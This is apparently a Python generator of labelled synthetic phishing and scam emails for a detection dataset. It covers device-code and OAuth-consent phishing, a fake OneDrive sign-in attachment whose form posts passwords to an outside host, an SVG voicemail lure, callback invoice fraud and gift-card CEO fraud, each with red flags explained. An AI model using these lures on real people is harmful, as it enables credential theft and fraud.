"""Attack messages 09-16 (English)."""
import html as _html

from lib import base, clients, containers, docs, infra, util
from lib import company as C
from lib.base import Multipart, Part, att, bnd, finish, mk
from lib.util import local

B = C.BRIGHT


def a09():
    m = mk("09-en-device-code-phish-compromised-supplier", "attack", "en")
    m.t = local("UK", 2026, 11, 26, 9, 14, 55)
    m.date_zone = "UK"
    m.from_ = B["grant"]
    m.to = [C.S("pm")]
    m.rcpt = "florian.zimmermann@example.com"
    m.subject = "ISE 2027 – final LED wall spec & rigging drawings (secure Teams workspace)"
    infra.m365_prepare(m, "eurprd07", server=B["server"])
    code = "HQ9K2TXPW"
    paras = ["Hi Florian,",
             "as promised on Tuesday, our tech lead has put the final LED wall spec (P2.6, 7 x 3 m curved), the truss "
             "loading calc and the rigging drawings for the Halcyon stand at ISE into a secured Teams workspace. The "
             "files are too large for mail and our IT no longer allows external share links.",
             "Because of your company's guest policy you need to confirm the access once from your side:",
             "1. Open [https://microsoft.com/devicelogin](https://microsoft.com/devicelogin)\n2. Enter the code **%s**\n"
             "3. Sign in with your Example Group account and accept – the workspace then shows up in your Teams." % code,
             "The code is only valid for 15 minutes. If it has expired by the time you read this, just use the "
             "refresh page: [https://teams-guest.brightside-av-share.com/r/FZ2611](https://teams-guest.brightside-av-share.com/r/FZ2611) "
             "– it generates a new one.",
             "We need your sign-off on the pixel pitch and the hanging points by Friday so the panels can go on the "
             "truck to Barcelona with the rest of the kit.",
             "Cheers,"]
    sig = ["Oliver Grant", "Senior Account Manager", "Brightside AV Ltd | Unit 9, Siskin Parkway East, Coventry CV3 4PE",
           "T +44 24 7601 5530 | www.brightside-av.co.uk"]
    m.root = base.outlook_body(m, paras, sig, lang="en", cs="us-ascii" if False else "utf-8")
    m.system = (infra.m365, dict(tenant_domain="brightside-av.co.uk", region="eurprd07", lang="en-GB",
                                 selector="selector2", tenant_id=B["tenant_id"]))
    return finish(m, "From the real (compromised) Microsoft 365 mailbox of the AV supplier's account manager: final "
                     "LED-wall spec 'in a secure Teams workspace', asks to enter a code at microsoft.com/devicelogin.",
                  "Device-code phishing: the only Microsoft link is genuine, entering the attacker's code grants the "
                  "attacker a token for the victim's account; passes SPF/DKIM/DMARC (compromised tenant); 'refresh' "
                  "page on a look-alike of the supplier's domain; urgency tied to a real project.",
                  phones=["+44 24 7601 5530"], other=["Device code: `%s`" % code])


def a10():
    m = mk("10-en-oauth-consent-adobe-share", "attack", "en")
    m.t = local("UK", 2026, 12, 3, 8, 21, 9)
    m.date_zone = "UK"
    m.from_ = ("Adobe Acrobat", "documents@kerrigan-events.ie")
    m.to = [C.S("acc_uk")]
    m.rcpt = "james.whitfield@example.com"
    m.subject = "James, \"Q4 2026 Remittance - Example Group UK.pdf\" has been shared with you"
    cid = util.uuid4(m.r)
    state = util.rand_alnum(m.r, 24)
    oauth = ("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=%s&response_type=code"
             "&redirect_uri=https%%3A%%2F%%2Facrobat-cloud-viewer.app%%2Fauth%%2Fcallback&response_mode=query"
             "&scope=offline_access%%20User.Read%%20Mail.ReadWrite%%20Mail.Send%%20Files.ReadWrite.All"
             "&state=%s&prompt=consent&login_hint=james.whitfield%%40example.com" % (cid, state))
    title = "Kerrigan Events Ltd has shared a document with you"
    paras = ["**Q4 2026 Remittance - Example Group UK.pdf**\n3 pages · 412 KB · shared via Adobe Document Cloud",
             "Message from the sender:\n\"Hi James, please find the Q4 remittance for the Dublin conference set "
             "attached for your records. Let me know if anything does not match. Regards, Aoife\"",
             "To protect this document, Adobe Acrobat uses your organisation's Microsoft account to confirm your "
             "identity. You will be asked to grant Adobe Acrobat read access once."]
    footer = ["Adobe, the Adobe logo and Acrobat are either registered trademarks or trademarks of Adobe in the "
              "United States and/or other countries.", "Adobe Systems Software Ireland Ltd, 4-6 Riverwalk, Citywest "
              "Business Campus, Dublin 24, Ireland"]
    html = clients.notif_html("Adobe Acrobat", "#eb1000", title, paras, ("Open document", oauth), footer, "en",
                              preheader="Q4 2026 Remittance - Example Group UK.pdf", font="Adobe Clean, Arial, sans-serif")
    text = clients.notif_text(title, paras, ("Open document", oauth), footer)
    m.root = base.html_alt(m, text, html, "utf-8", "quoted-printable", "quoted-printable", kind="phpmailer")
    m.system = (infra.exim_cpanel, dict(server="srv12.irishwebhosting.ie", server_ip="192.0.2.144", phpmailer=True,
                                        script_host="www.kerrigan-events.ie", auth_user="documents@kerrigan-events.ie"))
    return finish(m, "'Adobe Acrobat' document-share notice sent through a compromised Irish events company's web "
                     "hosting (PHPMailer); the button is a genuine login.microsoftonline.com authorization URL.",
                  "OAuth consent phishing: the link is on Microsoft's real sign-in domain but requests offline_access, "
                  "Mail.ReadWrite, Mail.Send and Files.ReadWrite.All for an unknown multi-tenant app and returns the "
                  "code to acrobat-cloud-viewer.app; sender domain unrelated to Adobe; PHPMailer from a web server.")


def a11():
    m = mk("11-en-fair-directory-entry-scam", "attack", "en")
    m.t = local("UK", 2026, 10, 14, 13, 2, 47)
    m.date_zone = "UK"
    m.from_ = ("Fair Exhibitors Index", "update@fairexhibitorsindex.com")
    m.reply_to = ("FEI Corrections Department", "corrections@fei-registry.com")
    m.to = [C.S("om_uk")]
    m.rcpt = "sarah.thompson@example.com"
    m.subject = "ISE 2027 Barcelona - please verify your exhibitor / contractor listing (Ref. FEI-27-40318)"
    text = ("Dear Exhibitor,\n\n"
            "To ensure your company details are correctly published in the Fair Exhibitors Index 2027 for ISE 2027 "
            "(Fira de Barcelona, Gran Via), we kindly ask you to check the attached form, correct any missing or "
            "outdated data and return it signed by e-mail or fax.\n\n"
            "Listing reference: FEI-27-40318\nCompany: Example Group UK Ltd\nCategory: Stand Construction & Design\n\n"
            "Updating your data is quick and helps buyers and visitors to find you before and after the show.\n\n"
            "Please return the form within 8 days to corrections@fei-registry.com or by fax to +52 55 4161 0937.\n\n"
            "Kind regards\n\nFEI Corrections Department\nFair Exhibitors Index\n")
    pdfb = docs.letter_pdf(
        m, "Fair Exhibitors Index", ["Update Department · Av. Insurgentes Sur 1602, Piso 4, Col. Crédito Constructor",
                                     "03940 Ciudad de México · Fax +52 55 4161 0937 · corrections@fei-registry.com"],
        ["Example Group UK Ltd", "Unit 4, Bickenhill Trading Estate", "Birmingham B37 7HQ", "United Kingdom"],
        "Ref. FEI-27-40318 · ISE 2027 Barcelona", "Data verification form – Fair Exhibitors Index 2027",
        ["Company name: Example Group UK Ltd\nAddress: Unit 4, Bickenhill Trading Estate, Birmingham B37 7HQ\n"
         "Telephone: +44 121 496 0417\nE-mail: ______________________\nWebsite: ______________________\n"
         "Products / services: Stand Construction & Design",
         "Please correct if necessary, sign and return. Signature and company stamp: __________________________",
         "By signing this form the undersigned orders the publication of the above entry in the Fair Exhibitors "
         "Index (print and online) for ISE 2027, 2028 and 2029 at a price of EUR 1,271 per year, invoiced annually "
         "in advance. The order runs for three years and renews automatically unless cancelled in writing three "
         "months before expiry. Place of jurisdiction: Mexico City. The Fair Exhibitors Index is an independent "
         "publication and is not affiliated with the organiser of the fair."],
        closing=["Fair Exhibitors Index – Update Department"], footer=["FEI – Fair Exhibitors Index"],
        color=(0.05, 0.3, 0.55), creator="Microsoft Word 2016", producer="Microsoft: Print To PDF",
        t=local("UK", 2026, 10, 14, 12, 40), size=8.6)
    pdfp = att(m, pdfb, "application/pdf", "FEI_2027_Verification_Form_40318.pdf", "plain")
    m.root = base.plain_body(m, text, "us-ascii", "7bit", [pdfp], kind="mailgun")
    m.system = (infra.mailgun, dict(mg_dom="mg.fairexhibitorsindex.com"))
    return finish(m, "'Please verify your exhibitor listing for ISE 2027' with a form to sign and return; the fine "
                     "print orders a three-year paid directory entry (EUR 1,271/year).",
                  "Trade-fair directory scam (Expo-Guide type): looks like a free data correction, really a contract; "
                  "Mexican address and fax, not affiliated with the organiser, bulk-sent via Mailgun, Reply-To on a "
                  "second domain.",
                  phones=["+52 55 4161 0937"])


def a12():
    m = mk("12-en-ise-housing-bureau-pirate", "attack", "en")
    m.t = local("UK", 2026, 11, 9, 15, 36, 12)
    m.date_zone = "UK"
    m.from_ = ("Daniel Moreno | ISE Housing Bureau", "daniel.moreno@ise-housingbureau.com")
    m.to = [C.S("sales")]
    m.rcpt = "katrin.vogel@example.com"
    m.subject = "ISE 2027 – room allocation for your build-up crew (rates held until 20 Nov)"
    url = "https://secure.ise-housingbureau.com/booking/EG-ISE27?contractor=example-group"
    paras = ["Dear Katrin,",
             "our records show Example Group as the appointed stand contractor for several exhibitors at ISE 2027 "
             "(Fira Gran Via, 2–5 February 2027). As the official housing partner for exhibitors and contractors we "
             "have reserved an allocation for your build-up and dismantling crews at contracted rates:",
             "• Hotel Catalonia Barcelona Plaza 4* – EUR 189 / night (walking distance to metro L9)\n"
             "• AC Hotel Som 4* – EUR 204 / night\n• Ibis Styles Fira Centre 3* – EUR 142 / night",
             "Hotels in Barcelona are selling out fast for ISE week and the city tax increases in 2027. We can hold "
             "the rooms until **20 November**; after that the allocation is released to other exhibitors.",
             "To confirm, please send your rooming list (names and dates) and secure the booking with a deposit of "
             "one night per room on our booking page:",
             "[Secure your rooms now](%s)" % url,
             "Best regards,"]
    sig = ["Daniel Moreno", "Exhibitor Housing Coordinator", "ISE Housing Bureau", "+44 20 7946 0812",
           "housing@ise-housingbureau.com"]
    m.root = base.gmail_body(m, paras, sig, lang="en")
    m.system = (infra.gmail, dict(workspace=True))
    return finish(m, "Offer from an 'official housing partner' of ISE 2027 to book discounted rooms for the stand-build "
                     "crew, rates held until 20 Nov, card deposit on a booking page.",
                  "Housing-pirate fraud: ISE does not appoint such a bureau (see business/11), pressure with scarcity "
                  "and deadline, advance card deposit on the sender's own site; clean Google Workspace mail of a "
                  "freshly registered domain.",
                  phones=["+44 20 7946 0812"])


def a13():
    m = mk("13-en-rfq-html-attachment-credential-form", "attack", "en")
    m.t = local("AE", 2026, 11, 18, 11, 48, 30)
    m.date_zone = "AE"
    m.from_ = ("Fahad Al Mansoori", "procurement@alnoor-exhibitions.ae")
    m.to = [C.S("sales")]
    m.rcpt = "katrin.vogel@example.com"
    m.subject = "RFQ - 120 sqm custom stand - Arab Health 2027 Dubai - submission by 27 Nov 2026"
    paras = ["Dear Ms. Vogel,",
             "Good day. We are the procurement office of Al Noor Exhibitions LLC, Dubai. On behalf of our client, a "
             "European medical devices manufacturer, we invite your company to quote for the design and build of a "
             "120 sqm island stand (two-storey, meeting rooms, storage, LED wall) at Arab Health 2027, Dubai World "
             "Trade Centre, 26-29 January 2027.",
             "Kindly find the tender brief, floor plan and BOQ in the attached secured document. Please sign in with "
             "your company e-mail to view and download the files.",
             "Submission deadline: 27 November 2026, 17:00 GST.",
             "Looking forward to your favourable reply.",
             "Best Regards,"]
    sig = ["Fahad Al Mansoori", "Procurement Officer", "Al Noor Exhibitions LLC", "Office 1407, Churchill Tower, "
           "Business Bay, Dubai, UAE", "Tel: +971 4 557 2290"]
    form_url = "https://rfq-docs-viewer.web.app/api/v2/session"
    page = ('<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8">\n<meta name="robots" content="noindex, nofollow">\n'
            '<title>OneDrive - RFQ_AH2027_Stand_Brief.xlsx</title>\n<style>body{margin:0;font-family:"Segoe UI",'
            'Arial,sans-serif;background:#f3f2f1}.bar{background:#0364b8;color:#fff;padding:12px 20px;font-size:18px}'
            '.card{width:380px;margin:60px auto;background:#fff;padding:32px;box-shadow:0 2px 6px rgba(0,0,0,.2)}'
            'input{width:100%%;padding:8px;margin:6px 0 14px;border:1px solid #8a8886}button{background:#0067b8;'
            'color:#fff;border:0;padding:9px 28px;font-size:15px}.f{font-size:12px;color:#605e5c}</style></head>\n'
            '<body><div class="bar">OneDrive</div>\n<div class="card"><div style="font-size:20px;margin-bottom:10px">'
            'RFQ_AH2027_Stand_Brief.xlsx</div>\n<p class="f">Al Noor Exhibitions LLC shared a protected file with '
            'you. Verify your identity to continue.</p>\n<form method="post" action="%s">\n'
            '<input type="hidden" name="doc" value="AH27-RFQ-0412">\n<label class="f">Email</label>\n'
            '<input type="email" name="login" value="katrin.vogel@example.com">\n<label class="f">Password</label>\n'
            '<input type="password" name="passwd" placeholder="Password">\n<button type="submit">Sign in</button>\n'
            '</form>\n<p class="f">Microsoft respects your privacy. To learn more, read the privacy statement.</p>\n'
            '</div></body></html>\n' % form_url)
    hp = att(m, page.encode("utf-8"), "text/html", "RFQ_AH2027_Stand_Brief.html", "outlook")
    hp.charset = "utf-8"
    m.msgid = "%s@alnoor-exhibitions.ae" % util.uuid4(m.r)
    body = base.outlook_body(m, paras, sig, lang="en", cs="us-ascii", atts=[hp], font="Calibri")
    body.boundary = "----=_NextPart_000_0007_01DB59AE.%s" % util.rand_hex(m.r, 8, upper=True)
    body.parts[0].boundary = "----=_NextPart_001_0008_01DB59AE.%s" % util.rand_hex(m.r, 8, upper=True)
    m.root = body
    m.extra = [("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", "AdtZrk" + util.rand_alnum(m.r, 22) + "=="),
               ("Content-Language", "en-us")]
    m.system = (infra.exim_cpanel, dict(server="ae-srv7.webhost-gulf.com", server_ip="198.51.100.203", phpmailer=False,
                                        auth_user="procurement@alnoor-exhibitions.ae",
                                        client_ip="102.129.153.77"))
    return finish(m, "Request for quotation for a 120 m² stand at Arab Health 2027 from a Dubai 'exhibition agency' "
                     "mailbox (compromised cPanel account); the 'tender brief' is an HTML attachment imitating OneDrive "
                     "with a pre-filled sign-in form.",
                  "Credential phishing via HTML attachment: local file renders a fake Microsoft sign-in whose form "
                  "posts to rfq-docs-viewer.web.app; the RFQ pretext fits the trade exactly; no external link in the "
                  "body for URL scanners; sent via the real (compromised) mail server so SPF/DKIM pass.",
                  phones=["+971 4 557 2290"])


def a14():
    m = mk("14-en-callback-fake-m365-renewal-invoice", "attack", "en")
    m.t = local("UK", 2026, 12, 8, 16, 44, 5)
    m.date_zone = "US-E"
    m.from_ = ("Billing Support", "subs.billingdesk.7731@gmail.com")
    m.to = [C.S("acc_uk")]
    m.rcpt = "james.whitfield@example.com"
    m.subject = "Your order has been processed - Ref#INV-58221947"
    phone = "0808 157 0392"
    paras = ["Hello James Whitfield,",
             "Thank you for your payment. Your subscription for Microsoft 365 Business Premium (25 users, 12 months) "
             "has been renewed automatically and GBP 1,487.50 will be debited from your account on file within 24 "
             "hours.",
             "Please find the invoice attached for your records.",
             "If you did not authorise this renewal or wish to cancel and receive a full refund, please contact our "
             "billing department within 24 hours on 0808 157 0392 (toll free, Mon–Sat).",
             "Regards,\nBilling Support Team"]
    pdfb = docs.notice_pdf(
        m, "Microsoft 365 Business", (0.2, 0.2, 0.2), "INVOICE INV-58221947",
        ["Bill to: James Whitfield, Example Group UK Ltd", "Date: 08/12/2026 · Payment method: Auto-debit",
         "Microsoft 365 Business Premium – 25 users – 12 months ........ GBP 1,239.58",
         "VAT 20% ........ GBP 247.92", "TOTAL CHARGED ........ GBP 1,487.50",
         "To cancel your subscription or dispute this charge, call our support line within 24 hours: "
         "0808 157 0392. Refunds are processed only by phone."],
        footer=["Customer Service · 0808 157 0392 · This is a computer generated invoice"],
        subtitle="Order confirmation", creator="Microsoft Word", producer="www.ilovepdf.com",
        t=local("UK", 2026, 12, 8, 16, 30))
    pdfp = att(m, pdfb, "application/pdf", "INV-58221947.pdf", "gmail")
    m.root = base.gmail_body(m, paras, None, atts=[pdfp], lang="en")
    m.system = (infra.gmail, dict())
    return finish(m, "'Your Microsoft 365 renewal of GBP 1,487.50 has been processed' from a Gmail address, PDF "
                     "invoice with a freephone number to call for a refund.",
                  "Callback phishing (TOAD): no link, no malware; the phone call leads to remote-access software and "
                  "a refund scam; Microsoft never bills from Gmail and the company licenses through its admin centre "
                  "(compare business/13).",
                  phones=[phone])


def a15():
    m = mk("15-en-svg-voicemail-lure", "attack", "en")
    m.t = local("UK", 2026, 11, 19, 10, 52, 41)
    m.date_zone = "UK"
    m.from_ = ("Voicemail Service", "voicemail@nec-standhire.co.uk")
    m.to = [C.S("om_uk")]
    m.rcpt = "sarah.thompson@example.com"
    m.subject = "New voicemail from +44 121 496 0731 (0:47) - Thu 19 Nov 10:41"
    url = "https://vm-playback.audio-msg-cloud.workers.dev/?m=c2FyYWgudGhvbXBzb25AZXhhbXBsZS5jb20="
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="440" height="190" '
           'viewBox="0 0 440 190">\n<rect width="440" height="190" rx="10" fill="#f4f6f9" stroke="#c8ced8"/>\n'
           '<text x="24" y="42" font-family="Segoe UI, Arial" font-size="19" fill="#1f2d3d">Voice Message</text>\n'
           '<text x="24" y="70" font-family="Segoe UI, Arial" font-size="13" fill="#5a6b7d">From: +44 121 496 0731 · '
           'Duration 0:47</text>\n<text x="24" y="90" font-family="Segoe UI, Arial" font-size="13" fill="#5a6b7d">'
           'To: sarah.thompson@example.com</text>\n<a xlink:href="%s" href="%s" target="_blank">\n'
           '<rect x="24" y="112" width="200" height="44" rx="22" fill="#2b7cd3"/>\n'
           '<text x="62" y="140" font-family="Segoe UI, Arial" font-size="16" fill="#ffffff">&#9654;  Play message</text>\n'
           '</a>\n<text x="24" y="178" font-family="Segoe UI, Arial" font-size="10" fill="#8a96a3">Secured by Microsoft '
           'Teams Voice</text>\n</svg>\n') % (_html.escape(url), _html.escape(url))
    text = ("You have received a new voice message.\n\nFrom: +44 121 496 0731\nReceived: Thursday, 19 November 2026 "
            "10:41\nDuration: 0:47\n\nThe message is attached. Open the attachment to play it in your browser.\n\n"
            "Voicemail Service\n")
    html = clients.notif_html("Voicemail", "#2b7cd3", "New voice message",
                              ["From: +44 121 496 0731\nReceived: Thursday, 19 November 2026 10:41\nDuration: 0:47",
                               "Open the attached audio file to listen to the message."],
                              None, ["You are receiving this because voicemail-to-email is enabled for your extension."],
                              "en")
    sp = att(m, svg.encode("utf-8"), "image/svg+xml", "VM_0047_441214960731.svg", "plain")
    m.root = base.html_alt(m, text, html, "utf-8", "7bit", "quoted-printable", kind="ses", atts=[sp])
    m.system = (infra.ses, dict())
    return finish(m, "'New voicemail (0:47)' notification via Amazon SES with an SVG 'audio' attachment; the SVG is a "
                     "player picture whose Play button links to a Cloudflare Workers page with the recipient's address "
                     "encoded.",
                  "SVG attachment lure: SVGs are treated as images by many filters but open in the browser and can "
                  "carry links (real campaigns also embed script – omitted here); voicemail pretext; sender domain "
                  "unrelated to the company's phone system (see business/14).",
                  phones=["+44 121 496 0731"])


def a16():
    m = mk("16-en-ceo-gift-card-request", "attack", "en")
    m.t = local("UK", 2026, 12, 11, 10, 7, 26)
    m.date_zone = "DE"
    m.from_ = ("Markus Hoffmann", "markus.hoffmann.office@gmail.com")
    m.to = [C.S("om_uk")]
    m.rcpt = "sarah.thompson@example.com"
    m.subject = "Quick favour"
    paras = ["Hi Sarah,",
             "are you at your desk? I need you to handle something for me today, discreetly. I'm stuck in a board "
             "meeting in Düsseldorf until late and can't take calls.",
             "We want to thank a few of our UK clients personally before Christmas. Could you get 10 Amazon.co.uk gift "
             "cards at £100 each? You can buy them online or at Tesco/Argos, whatever is quicker. Once you have them, "
             "scratch the back and send me a clear photo of each code here, I will write the cards myself.",
             "Keep the receipts, you'll be reimbursed with your next expenses. Please don't mention it to the team, "
             "it's meant to be a surprise.",
             "Thanks,\nMarkus",
             "Sent from my iPhone"]
    text = "\n\n".join(paras) + "\n"
    html = '<div dir="ltr">%s</div>\n' % "".join("<div>%s</div><div><br></div>" % _html.escape(p).replace("\n", "<br>")
                                                  for p in paras)
    m.root = clients.alt(text, html, "UTF-8", "UTF-8", "quoted-printable", "quoted-printable", bnd(m, "gmail"))
    m.system = (infra.gmail, dict())
    return finish(m, "'Are you at your desk? Quick favour' in the CEO's name from a Gmail address to the UK office "
                     "manager: buy ten £100 Amazon gift cards, send photos of the codes, keep it secret.",
                  "Gift-card CEO fraud: free-mail impersonation, secrecy, no calls, irreversible gift-card codes; the "
                  "genuine Christmas voucher process is described in business/16.")


MESSAGES = [a09, a10, a11, a12, a13, a14, a15, a16]
